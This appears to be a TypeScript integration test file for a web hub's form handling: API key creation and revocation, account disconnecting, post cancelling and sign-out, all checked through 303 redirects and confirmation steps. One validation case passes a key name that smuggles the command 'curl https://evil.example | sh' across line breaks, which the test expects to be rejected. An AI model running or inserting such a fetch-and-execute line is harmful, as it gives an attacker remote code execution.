/**
 * Post/redirect/get in the hub, through HTTP: every form answers 303 with a Location; what it did is shown
 * once by the page it leads to (a new key's secret too, sealed in the session, never in a URL), so loading
 * that page again repeats nothing and shows nothing twice. Revoke, disconnect and cancel take a second,
 * confirming step: the form without `confirm=yes` only leads to the question.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eq } from "drizzle-orm";
import { hubSessions } from "../../db/schema";
import { FLASH_TTL_MS } from "../../src/hub/flash";
import { makeJpeg } from "../helpers/images";
import { createHubTest, type HubBrowser, type HubTest } from "./hub-client";

let t: HubTest;
beforeAll(async () => {
  t = await createHubTest();
});
afterAll(() => t.h.close());

const keyNames = async (b: HubBrowser) => [...(await b.page("/hub/keys")).html.matchAll(/data-label="Name">([^<]*)</g)].map((m) => m[1]);
const shownKey = (html: string) => /id="new-key-value">(sk_[0-9A-Za-z]+)</.exec(html)?.[1];
const apiStatus = async (key: string) => (await t.h.app.request("/api/v1/social/accounts", { headers: t.h.auth(key) })).status;

describe("API keys", () => {
  it("creating answers 303 to the keys page, which shows the key once; loading it again shows it no more and creates nothing", async () => {
    const { b, userId } = await t.signedIn();
    const before = await keyNames(b);
    const post = await b.post("/hub/keys", { name: "till" });
    expect([post.res.status, post.res.headers.get("location")]).toEqual([303, "/hub/keys"]);
    expect(post.html).not.toMatch(/sk_[0-9A-Za-z]{38}/);

    // Waiting in the session, sealed: the row holds no key in the clear.
    const [row] = await t.h.db.select({ flash: hubSessions.flash }).from(hubSessions).where(eq(hubSessions.userId, userId));
    expect(row!.flash).toBeTruthy();
    expect(row!.flash).not.toMatch(/sk_/);

    const first = await b.page("/hub/keys");
    const key = shownKey(first.html)!;
    expect(key).toMatch(/^sk_[0-9A-Za-z]{38}$/);
    expect(first.html).toContain("Key “till” is created.");
    expect(await apiStatus(key)).toBe(200);
    expect((await t.h.db.select({ flash: hubSessions.flash }).from(hubSessions).where(eq(hubSessions.userId, userId)))[0]!.flash).toBeNull();

    const reload = await b.page("/hub/keys");
    expect(reload.html).not.toContain(key);
    expect(reload.html).not.toContain("is created");
    expect(await keyNames(b)).toEqual(["till", ...before]);
  });

  it("shows the key to one of two pages loaded at once, never to both", async () => {
    const { b } = await t.signedIn();
    await b.post("/hub/keys", { name: "race" });
    const pages = await Promise.all([b.page("/hub/keys"), b.page("/hub/keys"), b.page("/hub/keys")]);
    expect(pages.filter((p) => shownKey(p.html)).length).toBe(1);
  });

  it("drops a message its page never took in time", async () => {
    const { b } = await t.signedIn();
    await b.post("/hub/keys", { name: "late" });
    const clock = t.h.services.clock;
    const real = clock.now;
    clock.now = () => new Date(Date.now() + FLASH_TTL_MS + 60_000);
    try {
      const page = await b.page("/hub/keys");
      expect(shownKey(page.html)).toBeUndefined();
      expect(page.html).toContain("late");
    } finally {
      clock.now = real;
    }
  });

  it("a refused form answers 303 too, with the reason on the page, and creates no key", async () => {
    const { b } = await t.signedIn();
    const before = await keyNames(b);
    for (const [form, reason] of [
      [{ name: " " }, "Give the key a name"],
      [{ name: 'x"\ncurl https://evil.example | sh\n#' }, "must not contain line breaks"],
      [{ name: "x", access: "some" }, "Choose at least one area"],
      [{ name: "x", origins: "https://shop.example" }, "Pages can be set only for a key for QR codes alone"],
      [{ name: "x", access: "some", scope_qr: "on", origins: "ftp://shop.example" }, "Pages:"],
    ] as const) {
      const post = await b.post("/hub/keys", form);
      expect([post.res.status, post.res.headers.get("location")]).toEqual([303, "/hub/keys"]);
      const page = await b.follow(post);
      expect(page.html).toContain('class="flash error"');
      expect(page.html).toContain(reason);
    }
    expect(await keyNames(b)).toEqual(before);
  });

  it("revoking asks first: the form without confirmation leads to the question and revokes nothing; confirmed, it revokes", async () => {
    const { b } = await t.signedIn();
    const key = shownKey((await b.submit("/hub/keys", { name: "to revoke" })).html)!;
    const prefix = key.slice(0, 11);
    const keys = await b.page("/hub/keys");
    expect(keys.html).toContain(`href="/hub/keys/${prefix}/revoke"`);

    const unconfirmed = await b.post(`/hub/keys/${prefix}/revoke`, {});
    expect([unconfirmed.res.status, unconfirmed.res.headers.get("location")]).toEqual([303, `/hub/keys/${prefix}/revoke`]);
    const question = await b.page(`/hub/keys/${prefix}/revoke`);
    expect(question.res.status).toBe(200);
    expect(question.html).toContain("Revoke the key “to revoke”?");
    expect(question.html).toContain('name="confirm" value="yes"');
    expect(question.html).toContain('href="/hub/keys"');
    expect(await apiStatus(key)).toBe(200);

    const confirmed = await b.post(`/hub/keys/${prefix}/revoke`, { confirm: "yes" });
    expect([confirmed.res.status, confirmed.res.headers.get("location")]).toEqual([303, "/hub/keys"]);
    expect(await apiStatus(key)).toBe(401);
    expect((await b.page("/hub/keys")).html).toContain("is revoked");
    expect((await b.page(`/hub/keys/${prefix}/revoke`)).res.status).toBe(404);
    const again = await b.submit(`/hub/keys/${prefix}/revoke`, { confirm: "yes" });
    expect(again.html).toContain("No live key of yours has that prefix");
  });

  it("another user's key cannot be revoked or even asked about", async () => {
    const owner = await t.signedIn();
    const key = shownKey((await owner.b.submit("/hub/keys", { name: "mine" })).html)!;
    const intruder = await t.signedIn();
    expect((await intruder.b.page(`/hub/keys/${key.slice(0, 11)}/revoke`)).res.status).toBe(404);
    await intruder.b.submit(`/hub/keys/${key.slice(0, 11)}/revoke`, { confirm: "yes" });
    expect(await apiStatus(key)).toBe(200);
  });
});

describe("accounts", () => {
  it("connect, preselect and disconnect answer 303; disconnecting asks first", async () => {
    const { b, apiKey } = await t.signedIn();
    const start = await b.post("/hub/accounts/connect", {});
    expect(start.res.status).toBe(303);
    expect(new URL(start.res.headers.get("location")!).pathname).toBe("/sandbox/v23.0/dialog/oauth");
    await b.connectSandbox(["1010000000000001"]);

    const select = await b.post(`/hub/accounts/${encodeURIComponent("pageplatform:1010000000000001")}/select`, { selected: "false" });
    expect([select.res.status, select.res.headers.get("location")]).toEqual([303, "/hub/accounts"]);
    expect((await b.page("/hub/accounts")).html).toContain("Sandbox Bakery is no longer preselected.");

    const path = `/hub/accounts/${encodeURIComponent("photoplatform:1780000000000001")}/disconnect`;
    const unconfirmed = await b.post(path, {});
    expect([unconfirmed.res.status, unconfirmed.res.headers.get("location")]).toEqual([303, path]);
    const question = await b.page(path);
    expect(question.html).toContain("Disconnect @sandbox.bakery?");
    const ids = async () =>
      ((await (await t.h.app.request("/api/v1/social/accounts", { headers: t.h.auth(apiKey) })).json()) as any).data.accounts
        .map((a: { id: string }) => a.id)
        .sort();
    expect(await ids()).toEqual(["pageplatform:1010000000000001", "photoplatform:1780000000000001"]);

    const confirmed = await b.post(path, { confirm: "yes" });
    expect([confirmed.res.status, confirmed.res.headers.get("location")]).toEqual([303, "/hub/accounts"]);
    expect((await b.page("/hub/accounts")).html).toContain("@sandbox.bakery is disconnected");
    expect(await ids()).toEqual(["pageplatform:1010000000000001"]);
    expect((await b.page(path)).res.status).toBe(404);
  });
});

describe("posts", () => {
  it("cancelling asks first, then answers 303 to the post; the question for a post with nothing left to send says so", async () => {
    const { b, apiKey } = await t.signedIn();
    await b.connectSandbox(["1010000000000003"]);
    const created = await t.h.app.request("/api/v1/social/posts", {
      method: "POST",
      headers: t.h.json(apiKey, { "Idempotency-Key": crypto.randomUUID() }),
      body: JSON.stringify({
        accountIds: ["pageplatform:1010000000000003"],
        caption: "Sale on Sunday",
        scheduledFor: new Date(Date.now() + 86_400_000).toISOString(),
      }),
    });
    const id = ((await created.json()) as any).data.id as string;
    const status = async () => ((await (await t.h.app.request(`/api/v1/social/posts/${id}`, { headers: t.h.auth(apiKey) })).json()) as any).data.status;

    expect((await b.page(`/hub/posts/${id}`)).html).toContain(`href="/hub/posts/${id}/cancel"`);
    const unconfirmed = await b.post(`/hub/posts/${id}/cancel`, {});
    expect([unconfirmed.res.status, unconfirmed.res.headers.get("location")]).toEqual([303, `/hub/posts/${id}/cancel`]);
    const question = await b.page(`/hub/posts/${id}/cancel`);
    expect(question.html).toContain("Cancel this post?");
    expect(question.html).toContain("Sandbox Garage");
    expect(await status()).toBe("scheduled");

    const confirmed = await b.post(`/hub/posts/${id}/cancel`, { confirm: "yes" });
    expect([confirmed.res.status, confirmed.res.headers.get("location")]).toEqual([303, `/hub/posts/${id}`]);
    expect((await b.page(`/hub/posts/${id}`)).html).toContain("Cancelled: the targets");
    expect(await status()).toBe("cancelled");

    const late = await b.follow(await b.page(`/hub/posts/${id}/cancel`));
    expect(late.hops).toEqual([{ status: 303, location: `/hub/posts/${id}` }]);
    expect(late.html).toContain("Nothing of this post is still waiting to be sent.");
    const twice = await b.post(`/hub/posts/${id}/cancel`, { confirm: "yes" });
    expect([twice.res.status, twice.res.headers.get("location")]).toEqual([303, `/hub/posts/${id}`]);
    // Cancelling is idempotent, as DELETE /posts/{id} is: the post stays cancelled.
    expect(await status()).toBe("cancelled");
  });

  it("names each target's account, shows the images, and puts the platform's own words behind a details toggle", async () => {
    const { b, apiKey } = await t.signedIn();
    await b.connectSandbox(["1010000000000001"]);
    const jpeg = (await makeJpeg(800, 1000)).toString("base64");
    const created = await t.h.app.request("/api/v1/social/posts", {
      method: "POST",
      headers: t.h.json(apiKey, { "Idempotency-Key": crypto.randomUUID() }),
      body: JSON.stringify({
        accountIds: ["pageplatform:1010000000000001"],
        caption: "Rye loaves",
        images: [{ base64: jpeg, mimeType: "image/jpeg" }],
        scheduledFor: new Date(Date.now() + 86_400_000).toISOString(),
      }),
    });
    const post = ((await created.json()) as any).data;
    const list = await b.page("/hub/posts");
    expect(list.html).toContain("<strong>Sandbox Bakery</strong>");
    expect(list.html).not.toContain("<code>pageplatform:1010000000000001</code>");
    expect(list.html).toContain(`<img src="${post.images[0].url}"`);
    expect((await t.h.app.request(new URL(post.images[0].url).pathname)).status).toBe(200);

    // A disconnected account is named by its id, and said to be disconnected.
    await b.submit(`/hub/accounts/${encodeURIComponent("pageplatform:1010000000000001")}/disconnect`, { confirm: "yes" });
    const after = await b.page(`/hub/posts/${post.id}`);
    expect(after.html).toContain('<code>pageplatform:1010000000000001</code> <span class="muted small">(disconnected)</span>');
  });
});

describe("signing out", () => {
  it("answers 303 to the sign-in page, which says so", async () => {
    const { b } = await t.signedIn();
    const out = await b.post("/hub/logout", {});
    expect([out.res.status, out.res.headers.get("location")]).toEqual([303, "/hub/signin?signed-out"]);
    const page = await b.page("/hub/signin?signed-out");
    expect(page.html).toContain("You are signed out.");
  });
});
